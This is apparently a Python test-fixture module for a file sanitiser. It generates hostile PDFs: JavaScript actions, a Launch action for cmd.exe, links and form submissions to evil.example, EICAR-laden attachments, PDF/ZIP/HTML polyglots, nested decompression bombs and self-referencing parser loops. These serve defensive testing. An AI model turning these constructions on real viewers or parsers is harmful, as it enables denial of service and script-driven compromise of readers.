# SPDX-License-Identifier: Apache-2.0
"""PDFs that act, fetch, hide, swell or loop."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from madoguchi.platform.files.sanitising.tests.good_files import archive, pdf, picture

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
BOMB_BYTES = 600 * 1024 * 1024


def changed(change):
    """A good PDF after ``change(pdf)``."""
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        out = io.BytesIO()
        document.save(
            out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )
    return out.getvalue()


def script(words="app.alert('x')"):
    return Dictionary(S=Name.JavaScript, JS=String(words))


def _open_action(document):
    document.Root.OpenAction = script()


def _named_scripts(document):
    names = Array([String("a"), document.make_indirect(script())])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _page_actions(document):
    document.pages[0].obj["/AA"] = Dictionary(O=script(), C=script())
    document.Root.AA = Dictionary(WC=script(), DS=script())


def _link(action):
    def change(document):
        link = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 300, 300]), A=action, H=Name.N
        )
        document.pages[0].obj["/Annots"] = Array([document.make_indirect(link)])

    return change


def with_files(document):
    document.attachments["evil.exe"] = b"MZ" + EICAR
    document.attachments["evil.pdf"] = pdf(1)


def _file_annotation(document):
    spec = pikepdf.AttachedFileSpec(document, b"MZ" + EICAR, filename="evil.exe")
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec.obj
    )
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])


def _xfa(document):
    form = document.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x()</script></xdp:xdp>'
    )
    field = document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"),
                   Rect=Array([0, 0, 99, 20]), V=String("answer"), AA=Dictionary(K=script()))
    )  # fmt: skip
    document.pages[0].obj["/Annots"] = Array([field])
    document.Root.AcroForm = Dictionary(XFA=form, Fields=Array([field]), NeedAppearances=True)


def _rich_media(document):
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 99, 99]),
        RichMediaContent=Dictionary(Assets=Dictionary()), RichMediaSettings=Dictionary(),
    )  # fmt: skip
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])


def _hidden_in_resources(document):
    """Actions and files where nobody looks: in a form XObject, a font, an outside stream."""
    form = document.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form,
                                BBox=Array([0, 0, 1, 1]))  # fmt: skip
    form["/AA"] = Dictionary(O=script())
    form["/Ref"] = Dictionary(F=String("http://evil.example/a.pdf"), Page=0)
    form["/PieceInfo"] = Dictionary(Evil=document.make_stream(EICAR))
    outside = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    outside["/F"] = Dictionary(FS=Name.URL, F=String("http://evil.example/a.png"))
    resources = document.pages[0].obj["/Resources"]
    resources["/XObject"] = Dictionary(Evil=form, Out=outside)


def _metadata(document):
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["灯 あかり"]
    document.docinfo["/Author"] = "灯 あかり"


def _bomb(filters):
    def change(document):
        content = zlib.compress(bytes(BOMB_BYTES), 9)
        for _ in range(filters - 1):
            content = zlib.compress(content, 9)
        stream = document.make_stream(b"")
        stream.write(content, filter=Array([Name.FlateDecode] * filters))
        document.pages[0].obj["/Contents"] = stream

    return change


def huge_page(document):
    document.pages[0].obj["/MediaBox"] = Array([0, 0, 20_000_000, 20_000_000])


def _huge_image(document):
    stream = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000,
        BitsPerComponent=8, ColorSpace=Name.DeviceGray,
    )  # fmt: skip
    stream.write(zlib.compress(bytes(50_000_000)), filter=Name.FlateDecode)
    page = document.pages[0].obj
    page["/Resources"]["/XObject"] = Dictionary(Big=stream)
    page["/Contents"] = document.make_stream(b"500 0 0 500 0 0 cm /Big Do")


def _risky_decoder(document):
    stream = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, BitsPerComponent=1,
        ColorSpace=Name.DeviceGray,
    )  # fmt: skip
    stream.write(bytes(range(200)), filter=Name.JBIG2Decode)
    document.pages[0].obj["/Resources"]["/XObject"] = Dictionary(J=stream)


def _dirty_jpeg(document):
    stream = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=160, Height=120, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )  # fmt: skip
    content = picture("JPEG", comment=EICAR) + archive({"evil.exe": EICAR})
    stream.write(content, filter=Name.DCTDecode)
    document.pages[0].obj["/Resources"]["/XObject"] = Dictionary(J=stream)


def _outlines(document):
    with document.open_outline() as outline:
        item = pikepdf.OutlineItem("x")
        outline.root.append(item)
    document.Root.Outlines.First["/A"] = script()


def _self_containing_form(document):
    form = document.make_stream(b"/Me Do", Type=Name.XObject, Subtype=Name.Form,
                                BBox=Array([0, 0, 9, 9]))  # fmt: skip
    form["/Resources"] = Dictionary(XObject=Dictionary(Me=form))
    document.pages[0].obj["/Resources"]["/XObject"] = Dictionary(Me=form)
    document.pages[0].obj["/Contents"] = document.make_stream(b"/Me Do")


def _deep_nesting(document):
    inner = Dictionary()
    for _ in range(300):
        inner = Dictionary(A=document.make_indirect(inner), B=Array([inner]))
    document.pages[0].obj["/Resources"]["/Properties"] = Dictionary(Deep=inner)


def _many_pages(document):
    page = document.pages[0]
    for _ in range(900):
        document.pages.append(page)


def raw(body, *, trailer="/Root 1 0 R"):
    """A PDF written by hand, with or without a true table of contents."""
    return f"%PDF-1.7\n{body}\ntrailer <<{trailer}>>\nstartxref\n0\n%%EOF\n".encode()


_PAGES = "1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"


def hostile_pdfs():
    """Name → content."""
    made = {**acting(), **swelling()}
    return {f"pdf-{name}.pdf": changed(change) for name, change in made.items()} | by_hand()


def acting():
    """Changes after which a PDF acts, points outside or hides something."""
    return {
        "script-at-opening": _open_action,
        "named-scripts": _named_scripts,
        "page-actions": _page_actions,
        "link-uri": _link(Dictionary(S=Name.URI, URI=String("http://evil.example/"))),
        "link-launch": _link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "link-script": _link(script()),
        "link-gotor": _link(Dictionary(S=Name.GoToR, F=String("\\\\evil\\a.pdf"), D=Array([0]))),
        "link-gotoe": _link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("e")))),
        "link-submit": _link(
            Dictionary(
                S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))
            )
        ),
        "link-chain": _link(
            Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([script(), script()]))
        ),
        "embedded-files": with_files,
        "file-annotation": _file_annotation,
        "xfa": _xfa,
        "rich-media": _rich_media,
        "hidden-in-resources": _hidden_in_resources,
        "metadata": _metadata,
    }


def swelling():
    """Changes after which a PDF swells, loops or needs a risky decoder."""
    return {
        "bomb": _bomb(1),
        "double-bomb": _bomb(2),
        "triple-bomb": _bomb(3),
        "huge-page": huge_page,
        "huge-image": _huge_image,
        "risky-decoder": _risky_decoder,
        "dirty-jpeg": _dirty_jpeg,
        "outlines": _outlines,
        "self-containing-form": _self_containing_form,
        "deep-nesting": _deep_nesting,
        "many-pages": _many_pages,
    }


def by_hand():
    """PDFs that no writer of PDFs would write: name → content."""
    return {
        "pdf-page-tree-loop.pdf": raw(
            _PAGES + "2 0 obj <</Type/Pages/Kids[2 0 R]/Count 1>> endobj"
        ),
        "pdf-parent-loop.pdf": raw(
            _PAGES + "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>> endobj\n"
            "3 0 obj <</Type/Page/Parent 2 0 R>> endobj"
        ),
        "pdf-xref-loop.pdf": raw(_PAGES, trailer="/Root 1 0 R/Prev 0/XRefStm 0"),
        "pdf-length-loop.pdf": raw(
            _PAGES + "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
            "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>> endobj\n"
            "4 0 obj <</Length 4 0 R>> stream\nq Q\nendstream endobj"
        ),
        "pdf-claims-many-pages.pdf": raw(
            _PAGES + "2 0 obj <</Type/Pages/Kids[]/Count 2147483647>> endobj"
        ),
        "pdf-brackets.pdf": b"%PDF-1.7\n1 0 obj " + b"[" * 200_000 + b"\n%%EOF",
        "pdf-and-zip.pdf": pdf() + archive({"evil.exe": b"MZ" + EICAR}),
        "pdf-and-html.pdf": b"<html><script>alert(1)</script>\n" + pdf(),
        "pdf-locked.pdf": locked(),
        "pdf-updated.pdf": pdf() + b"\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>"
        b"/Pages 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n",
    }


def locked():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(1))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()
